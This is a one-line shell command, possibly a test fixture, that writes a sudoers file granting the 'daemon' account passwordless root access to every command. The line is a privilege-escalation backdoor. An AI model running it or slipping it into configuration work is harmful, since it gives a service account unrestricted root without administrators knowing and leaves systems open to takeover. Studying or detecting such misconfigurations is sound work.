echo "daemon ALL=(ALL) NOPASSWD: ALL" >/etc/sudoers.d/50-wrong; chmod 440 /etc/sudoers.d/50-wrong
